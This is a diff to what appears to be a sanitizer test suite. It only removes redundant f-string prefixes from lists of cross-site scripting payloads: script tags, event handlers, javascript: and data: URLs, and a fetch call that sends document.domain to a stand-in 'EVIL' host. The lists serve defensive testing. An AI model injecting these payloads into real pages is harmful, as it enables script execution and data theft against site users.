@@ -45,17 +45,17 @@ SCRIPT_TAGS = [
     f"<template><script>{PROBE}</script></template>",
     f"<noscript><p title=\"</noscript><script>{PROBE}</script>\">",
     f"<![CDATA[<script>{PROBE}</script>]]>",
-    f"<script>alert(1)</script>",
+    "<script>alert(1)</script>",
     f"<script>fetch('{EVIL}/steal?'+document.domain)</script>",
 ]
 EVENT_HANDLERS = [
     f"<img src=x onerror={PROBE}>",
     f'<img src="x" onerror="{PROBE}">',
-    f"<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)>",
     f"<svg onload={PROBE}>",
     f"<svg/onload={PROBE}>",
     f"<body onload={PROBE}>",
-    f'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
     f"<details open ontoggle={PROBE}>",
     f"<input autofocus onfocus={PROBE}>",
     f"<video><source onerror={PROBE}></video>",
@@ -87,7 +87,7 @@ URLS = [
     f'https://example.org/" onmouseover="{PROBE}',
     f"https://example.org/#<script>{PROBE}</script>",
     f'{EVIL}/"><script>{PROBE}</script>',
-    f"//127.0.0.2:9/protocol-relative",
+    "//127.0.0.2:9/protocol-relative",
     f'<a href="javascript:{PROBE}">link</a>',
     f'<a href="data:text/html,<script>{PROBE}</script>">link</a>',
     f'<object data="javascript:{PROBE}"></object>',
@@ -463,8 +463,8 @@ def test_the_probe_and_the_request_log_catch_a_page_that_does_run_a_payload(brow
 
 def test_the_markup_audit_catches_what_a_payload_would_leave():
     for bad in (f"<img src=x onerror={PROBE}>", f'<a href=" javascript:{PROBE}">x</a>', "<script>x</script>",
-                f"<p style='background:url({EVIL})'>", f'<meta http-equiv="refresh" content="0">',
-                f'<a href="//127.0.0.2/">x</a>', "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
+                f"<p style='background:url({EVIL})'>", '<meta http-equiv="refresh" content="0">',
+                '<a href="//127.0.0.2/">x</a>', "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
                 f'<script src="{EVIL}/x.js"></script>', '<script src="../assets/reader.js">x()</script>'):
         audit = _Audit()
         audit.feed(bad)
